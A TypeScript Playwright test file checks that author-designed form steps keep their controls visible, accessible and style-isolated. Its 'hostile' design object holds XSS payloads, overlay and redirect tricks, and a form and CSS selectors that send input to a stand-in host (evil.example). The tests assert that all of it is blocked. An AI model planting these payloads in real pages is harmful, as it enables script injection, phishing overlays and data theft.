import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { CaptureState } from '@gatehouse/core/contract/capture.ts';
import type { Page } from 'playwright-core';
import { assertAccessible } from './accessibility.ts';
import type { Visit } from './browser.ts';
import { desktop, leave, phone, suite } from './browser.ts';
import { openHouse, readSession } from './journey.ts';
import { inviteTo, publish } from './workflow.ts';

interface Design {
  readonly header?: string;
  readonly body?: string;
  readonly footer?: string;
  readonly styleSheet?: string;
}

const fields = [
  { name: 'name', type: 'text', label: { en: 'Full name' }, required: true },
  { name: 'terms', type: 'checkbox', label: { en: 'I agree' }, required: true },
];

const end = { id: 'end', type: 'end', config: { decision: 'none' }, on: {} };

const form = (design: Design) => [
  { id: 'form', type: 'form', config: { title: { en: 'Who you are' }, fields, design }, on: { next: 'end' } },
  end,
];

const marked =
  '<main class="wide"><h2>Tell us</h2><slot name="field:name"></slot><slot name="field:terms"></slot><slot name="buttons"></slot></main>';

/** Tries everything that a design must not do. `__evil` is what its scripts would leave behind. */
const hostile: Required<Design> = {
  header: `<script>window.__evil = 1</script><div class="cover" style="position:fixed;inset:0;z-index:2147483647;background:red">
    </div><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  body: `<img src=x onerror="window.__evil = 2"><img src="https://evil.example/pixel.png"><svg onload="window.__evil = 3"></svg>
    <iframe src="https://evil.example/"></iframe><object data="https://evil.example/"></object>
    <form action="https://evil.example/"><input name="stolen"></form><video src="https://evil.example/a.mp4" autoplay></video>
    <link rel="stylesheet" href="https://evil.example/b.css"><style>* { display: none !important }</style>
    <div aria-hidden="true" style="background: url(https://evil.example/inline.png)"
    data-style="background: url(https://evil.example/set.png)"><a href="javascript:window.__evil = 4">go</a>
    <slot name="field:name"></slot><slot name="buttons"></slot></div>`,
  footer: '<div class="cover">x</div><details open ontoggle="window.__evil = 5">x</details>',
  styleSheet: `@import url(https://evil.example/c.css);
    @font-face { font-family: evil; src: url(https://evil.example/evil.woff2) }
    :host { display: none !important; position: fixed !important; inset: 0 !important; z-index: 2147483647 !important }
    ::slotted(*) { display: none !important; background: url(https://evil.example/d.png) !important }
    html, body, .cover { position: fixed !important; inset: 0 !important; z-index: 2147483647 !important; display: block !important;
      background: red url(https://evil.example/e.png) !important; font-family: evil !important; width: 100vw; height: 100vh }
    .header, .brand, .language, .footer, .card { display: none !important }
    a::before { content: url(https://evil.example/f.png) }
    input[value^="A"] { background: image-set("https://evil.example/g.png" 1x) }`,
};

/** Everything that the page asks for, and every dialog that a script opens. */
const watch = async ({ page }: Visit) => {
  const asked: string[] = [];
  page.on('request', (request) => asked.push(request.url()));
  // What the policy forbids is noted and does not leave the browser.
  page.on('requestfailed', (request) => {
    if (request.failure()?.errorText === 'csp') asked.splice(asked.indexOf(request.url()), 1);
  });
  page.on('dialog', (dialog) => {
    asked.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  await page.reload();
  return asked;
};

/** What stands at the middle of an element is the element itself: nothing lies over it. */
const isOnTop = (page: Page, selector: string): Promise<boolean> =>
  page.locator(selector).evaluate((element) => {
    element.scrollIntoView({ block: 'center' });
    const { x, y, width, height } = element.getBoundingClientRect();
    const top = document.elementFromPoint(x + width / 2, y + height / 2);
    return width > 0 && height > 0 && top !== null && element.contains(top);
  });

/** The page's own frame works, and the person gets to the end. */
const goOnRegardless = async (visit: Visit, asked: readonly string[], baseUrl: string): Promise<void> => {
  const { page } = visit;
  await page.locator('button[type=submit]').waitFor();
  for (const frame of ['.brand', '.language select', '.progress', '.footer p', 'button[type=submit]']) {
    assert.ok(await isOnTop(page, frame), frame);
  }
  await page.locator('.language select').selectOption('de');
  await page.getByRole('button', { name: 'Weiter' }).click();
  await page.locator('.error-summary:focus').waitFor();
  assert.ok(await isOnTop(page, '.error-summary'));
  await page.getByLabel('Full name').fill('Ada');
  await page.getByLabel('I agree').check();
  await page.getByRole('button', { name: 'Weiter' }).click();
  await page.getByRole('heading', { name: 'Vielen Dank' }).waitFor();
  assert.deepEqual(
    asked.filter((url) => !url.startsWith(`${baseUrl}/`) && !url.startsWith('data:')),
    [],
  );
  assert.equal(await page.evaluate(() => Object.hasOwn(window, '__evil')), false);
};

describe('a designed step', suite, () => {
  const house = openHouse();

  for (const [name, options] of [
    ['a phone', phone],
    ['a desktop in dark', { ...desktop, colorScheme: 'dark' as const }],
  ] as const) {
    it(`has our controls where its author marked them, with their labels and errors, on ${name}`, async () => {
      const styleSheet = 'body { color: rgb(40, 0, 60) } main.wide { padding: 20px } main .x { color: rgb(160, 0, 0) }';
      const design = { header: '<p class="x">Violet</p>', body: `${marked}<p class="x">Below</p>`, styleSheet };
      const workflow = await publish(house(), form(design));
      const visit = await inviteTo(house(), workflow, options);
      const { page, context, errors } = visit;
      const button = page.getByRole('button', { name: 'Continue' });
      await button.waitFor();
      assert.equal(await page.locator('h1').evaluate((heading) => heading === document.activeElement), true);
      await assertAccessible(page);
      const label = page.getByText('Full name');
      assert.equal(await label.evaluate((element) => getComputedStyle(element).color), 'rgb(40, 0, 60)');
      const [controlsEnd, below] = await Promise.all([button.boundingBox(), page.getByText('Below').boundingBox()]);
      assert.ok((controlsEnd?.y ?? 0) < (below?.y ?? 0), 'the buttons stand in their place, before what follows it');
      await button.click();
      await page.locator('.error-summary:focus').waitFor();
      await assertAccessible(page);
      await page.locator('.error-summary a').first().press('Enter');
      assert.equal(await page.evaluate(() => document.activeElement?.getAttribute('name')), 'name');
      await page.keyboard.type('Ada Example');
      await page.keyboard.press('Tab');
      await page.keyboard.press('Space');
      await page.keyboard.press('Tab');
      await page.keyboard.press('Enter');
      await page.getByRole('heading', { name: 'Thank you' }).waitFor();
      assert.equal((await readSession(house(), visit.sessionId)).state, 'completed');
      assert.deepEqual(errors, []);
      await leave(context);
    });
  }

  it('has the background of its body all over each part, margins included, as a page has', async () => {
    const styleSheet = 'body { background: rgb(0, 90, 0); margin: 30px } p { margin: 40px 0 }';
    const workflow = await publish(house(), form({ header: '<p>Example Bank</p>', body: marked, styleSheet }));
    const { page, context } = await inviteTo(house(), workflow, desktop);
    await page.getByText('Example Bank').waitFor();
    const parts = await page.locator('.design-part').evaluateAll((hosts) =>
      hosts.map((host) => {
        const canvas = host.shadowRoot?.querySelector('design-canvas');
        if (canvas === null || canvas === undefined) return null;
        const [inner, outer] = [canvas.getBoundingClientRect(), host.getBoundingClientRect()];
        const fills = inner.width === outer.width && inner.height === outer.height;
        return [getComputedStyle(canvas).backgroundColor, fills];
      }),
    );
    assert.deepEqual(parts, [
      ['rgb(0, 90, 0)', true],
      ['rgb(0, 90, 0)', true],
    ]);
    await leave(context);
  });

  it('keeps its style to itself', async () => {
    const styleSheet =
      'html { background: red } body { --accent: rgb(1, 2, 3); font-size: 40px } p, h1, button, label { color: lime !important }';
    const workflow = await publish(house(), form({ body: `<p id="progress">Hi</p>${marked}`, styleSheet }));
    const { page, context } = await inviteTo(house(), workflow);
    const button = page.locator('button[type=submit]');
    await button.waitFor();
    const styleOf = (selector: string) =>
      page.locator(selector).evaluate((element) => {
        const { color, backgroundColor, fontSize } = getComputedStyle(element);
        return { color, backgroundColor, fontSize };
      });
    const brand = await styleOf('.brand');
    assert.notEqual(brand.color, 'rgb(0, 255, 0)');
    assert.equal(brand.fontSize, '17px');
    assert.notEqual((await styleOf('html')).backgroundColor, 'rgb(255, 0, 0)');
    // What is inherited reaches the controls inside: the author's letters, and the colours that the page names.
    const inside = await styleOf('button[type=submit]');
    assert.deepEqual([inside.fontSize, inside.backgroundColor], ['40px', 'rgb(1, 2, 3)']);
    assert.notEqual(inside.color, 'rgb(0, 255, 0)');
    assert.equal(await page.locator('.design-part p').evaluate((p) => getComputedStyle(p).color), 'rgb(0, 255, 0)');
    await leave(context);
  });

  it('that marks no places has the controls at its end, and one that hides them behind it', async () => {
    const unmarked = await publish(house(), form({ body: '<h2>Tell us</h2>' }));
    const hiding = await publish(
      house(),
      form({ body: `${marked}<p>Below</p>`, styleSheet: 'main { display: none } h2 { visibility: hidden }' }),
    );
    for (const workflow of [unmarked, hiding]) {
      const { page, context } = await inviteTo(house(), workflow);
      await page.getByLabel('Full name').fill('Ada');
      await page.getByLabel('I agree').check();
      assert.ok(await isOnTop(page, 'button[type=submit]'));
      await assertAccessible(page);
      await page.locator('button[type=submit]').click();
      await page.getByRole('heading', { name: 'Thank you' }).waitFor();
      await leave(context);
    }
  });

  it('that is hostile runs nothing, asks nobody and hides neither the page’s frame nor the way on', async () => {
    const workflow = await publish(house(), form(hostile));
    const visit = await inviteTo(house(), workflow);
    const asked = await watch(visit);
    await goOnRegardless(visit, asked, house().server.baseUrl);
    assert.deepEqual(visit.errors, [], 'nothing was left for the browser to refuse');
    await leave(visit.context);
  });

  it('that nobody has cleaned does no more: the page and its policy are walls of their own', async () => {
    const workflow = await publish(house(), form({ body: '<p>x</p>' }));
    const visit = await inviteTo(house(), workflow);
    await visit.page.route('**/api/capture/{open,current}', async (route) => {
      const response = await route.fetch();
      const state: CaptureState = await response.json();
      await route.fulfill({ response, json: { ...state, view: { ...state.view, design: hostile } } });
    });
    const asked = await watch(visit);
    await goOnRegardless(visit, asked, house().server.baseUrl);
    await leave(visit.context);
  });

  it('has pictures of other servers by way of ours, and their words where one cannot be had', async () => {
    const body = `<img src="https://pictures.example/a.png" alt="First" width="40"><img src="https://pictures.example/b.png" alt="Second">${marked}`;
    const workflow = await publish(house(), form({ body }));
    const visit = await inviteTo(house(), workflow);
    const { page } = visit;
    const dataUrl = `data:image/svg+xml;base64,${btoa('<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20"/>')}`;
    await page.route('**/api/capture/picture**', async (route) => {
      const url = new URL(route.request().url()).searchParams.get('url');
      if (url?.endsWith('a.png')) await route.fulfill({ json: { dataUrl } });
      else await route.continue();
    });
    const asked = await watch(visit);
    await page.waitForFunction(() => {
      const root = document.querySelector('.design-part')?.shadowRoot;
      return root?.querySelector<HTMLImageElement>('img[alt=First]')?.naturalWidth === 40;
    });
    await page.getByText('Second').waitFor();
    await page.waitForLoadState('networkidle');
    assert.ok(asked.some((url) => url.includes('/api/capture/picture?')));
    assert.deepEqual(
      asked.filter((url) => new URL(url).host === 'pictures.example'),
      [],
    );
    await assertAccessible(page);
    await leave(visit.context);
  });
});
